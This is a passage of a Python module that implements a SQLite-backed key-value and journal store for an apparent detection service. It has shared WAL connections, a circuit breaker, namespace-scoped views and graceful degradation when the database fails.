(acknowledged keep/delete decisions), unlike the solve cache where
NORMAL suffices because a lost entry only costs a re-solve.
"""

from __future__ import annotations

import os
import sqlite3
import threading
import warnings
import weakref
from pathlib import Path

from repro.detector.storage.backend import StoreBackend
from repro.resilience import CircuitBreaker
from repro.testing.faults import fault_hook

# Documents/journals per database file are shared across every
# namespace view, so one process opens one connection per file no
# matter how many tenant stores it hydrates.  Weak values: when the
# last backend view dies, the connection is released with it.
_DOC_FILES: "weakref.WeakValueDictionary[str, _SQLiteDocFile]" = (
    weakref.WeakValueDictionary()
)
_DOC_FILES_LOCK = threading.Lock()


class _SQLiteDocFile:
    """One shared WAL-mode connection to one store database file."""

    def __init__(
        self,
        path: Path,
        busy_timeout_ms: int = 5000,
        breaker: CircuitBreaker | None = None,
    ) -> None:
        self.path = path
        self.breaker = breaker or CircuitBreaker(
            failure_threshold=3, cooldown_seconds=5.0, name="store"
        )
        self._lock = threading.Lock()
        self._conn: sqlite3.Connection | None = None
        try:
            self.path.parent.mkdir(parents=True, exist_ok=True)
        except OSError:
            pass
        try:
            conn = sqlite3.connect(
                str(self.path),
                check_same_thread=False,
                isolation_level=None,  # autocommit: writes land immediately
            )
            conn.execute("PRAGMA journal_mode=WAL")
            conn.execute(f"PRAGMA busy_timeout={int(busy_timeout_ms)}")
            conn.execute("PRAGMA synchronous=FULL")
            conn.execute(
                "CREATE TABLE IF NOT EXISTS docs ("
                "key TEXT PRIMARY KEY, value TEXT NOT NULL)"
            )
            conn.execute(
                "CREATE TABLE IF NOT EXISTS journal ("
                "key TEXT NOT NULL, seq INTEGER NOT NULL, "
                "line TEXT NOT NULL, PRIMARY KEY (key, seq))"
            )
            self._conn = conn
        except sqlite3.Error as exc:
            self._disable(exc)

    def _disable(self, exc: Exception) -> None:
        warnings.warn(
            f"detection store database {self.path} is unusable ({exc}); "
            "degrading to a cold store (apps re-sign and re-solve, "
            "results are unaffected)",
            RuntimeWarning,
            stacklevel=4,
        )
        if self._conn is not None:
            try:
                self._conn.close()
            except sqlite3.Error:
                pass
        self._conn = None

    def _transient(self, exc: Exception) -> None:
        before = self.breaker.times_opened
        self.breaker.record_failure()
        if self.breaker.times_opened > before:
            warnings.warn(
                f"detection store database {self.path} hit repeated "
                f"transient errors ({exc}); circuit breaker open for "
                f"{self.breaker.cooldown_seconds:.1f}s — writes degrade "
                "until it closes",
                RuntimeWarning,
                stacklevel=5,
            )

    @property
    def breaker_state(self) -> str:
        if self._conn is None:
            return "disabled"
        return self.breaker.state

    def execute(self, sql: str, params: tuple = (), fault_point: str = ""):
        """Run one statement under the lock; ``None`` when degraded
        (permanently disabled, breaker open, or a transient failure —
        the statement itself is never retried here, the layers above
        re-drive writes through their own commit paths)."""
        with self._lock:
            if self._conn is None or not self.breaker.allow():
                return None
            try:
                if fault_point:
                    fault_hook(fault_point)
                cursor = self._conn.execute(sql, params)
            except sqlite3.OperationalError as exc:
                self._transient(exc)
                return None
            except sqlite3.Error as exc:
                self._disable(exc)
                return None
            self.breaker.record_success()
            return cursor

    def flush(self) -> None:
        self.execute("PRAGMA wal_checkpoint(PASSIVE)")

    def close(self) -> None:
        with self._lock:
            if self._conn is None:
                return
            try:
                self._conn.close()
            except sqlite3.Error:
                pass
            self._conn = None


def _shared_doc_file(
    path: Path,
    busy_timeout_ms: int = 5000,
    breaker: CircuitBreaker | None = None,
) -> _SQLiteDocFile:
    key = os.path.abspath(str(path))
    with _DOC_FILES_LOCK:
        doc_file = _DOC_FILES.get(key)
        if doc_file is None:
            doc_file = _SQLiteDocFile(path, busy_timeout_ms, breaker)
            _DOC_FILES[key] = doc_file
        return doc_file


class SQLiteStoreBackend(StoreBackend):
    """Key-value store backend over one (shareable) SQLite file.

    ``namespace`` scopes every key under ``<namespace>/`` so many
    tenant stores coexist in one database; :meth:`namespace` derives a
    sibling view sharing this view's connection.  All failure modes
    degrade (see the module docstring) — never an exception on the
    detection path."""

    def __init__(
        self,
        path: str | Path,
        namespace: str = "",
        busy_timeout_ms: int = 5000,
        breaker: CircuitBreaker | None = None,
    ) -> None:
        self.path = Path(path)
        self.namespace_name = namespace
        self._prefix = f"{namespace}/" if namespace else ""
        # busy_timeout_ms / breaker only take effect for the view that
        # first opens the file; sibling views share its connection.
        self._file = _shared_doc_file(self.path, busy_timeout_ms, breaker)

    def namespace(self, name: str) -> "SQLiteStoreBackend":
        """A view over the same database scoped to ``name``'s keys."""
        return SQLiteStoreBackend(self.path, name)

    @property
    def breaker_state(self) -> str:
        """"disabled" (permanent), else the shared connection's breaker
        state — one breaker per database file, shared by all views."""
        return self._file.breaker_state

    def _key(self, key: str) -> str:
        return self._prefix + key

    def read_doc(self, key: str) -> str | None:
        cursor = self._file.execute(
            "SELECT value FROM docs WHERE key = ?", (self._key(key),)
        )
        if cursor is None:
            return None
        row = cursor.fetchone()
        return None if row is None else row[0]

    def write_doc(self, key: str, text: str) -> int:
        cursor = self._file.execute(
            "INSERT OR REPLACE INTO docs (key, value) VALUES (?, ?)",
            (self._key(key), text),
        )
        return 0 if cursor is None else len(text.encode("utf-8"))

    def has_doc(self, key: str) -> bool:
        cursor = self._file.execute(
            "SELECT 1 FROM docs WHERE key = ?", (self._key(key),)
        )
        return cursor is not None and cursor.fetchone() is not None

    def list_docs(self, prefix: str) -> list[str]:
        low = self._key(prefix)
        high = low + "\U0010ffff"
        cursor = self._file.execute(
            "SELECT key FROM docs WHERE key >= ? AND key <= ? ORDER BY key",
            (low, high),
        )
        if cursor is None:
            return []
        cut = len(self._prefix)
        return [row[0][cut:] for row in cursor.fetchall()]

    def append_journal(self, key: str, line: str) -> int:
        # Single-statement append: the MAX(seq)+1 subselect and the
        # insert run atomically, so concurrent appenders (two fleet
        # controllers sharing a file) cannot collide on a sequence.
        cursor = self._file.execute(
            "INSERT INTO journal (key, seq, line) VALUES (?, "
            "COALESCE((SELECT MAX(seq) + 1 FROM journal WHERE key = ?), 0), "
            "?)",
            (self._key(key), self._key(key), line),
            fault_point="store.append",
        )
        return 0 if cursor is None else len(line.encode("utf-8")) + 1

    def read_journal(self, key: str) -> list[str]:
        cursor = self._file.execute(
            "SELECT line FROM journal WHERE key = ? ORDER BY seq",
            (self._key(key),),
        )
        if cursor is None:
            return []
        return [row[0] for row in cursor.fetchall()]

    def delete(self, key: str) -> None:
        self._file.execute(
            "DELETE FROM docs WHERE key = ?", (self._key(key),)
        )
        self._file.execute(
            "DELETE FROM journal WHERE key = ?", (self._key(key),)
        )

    def flush(self) -> None:
        self._file.flush()

    def close(self) -> None:
        # Deliberately only a checkpoint: the underlying connection is
        # shared with sibling namespace views (and memoized per file),
        # so closing it here would sabotage them.  It is released when
        # the last view is garbage-collected.
        self._file.flush()

    def __repr__(self) -> str:
        return (
            f"SQLiteStoreBackend({str(self.path)!r}, "
            f"namespace={self.namespace_name!r})"
        )
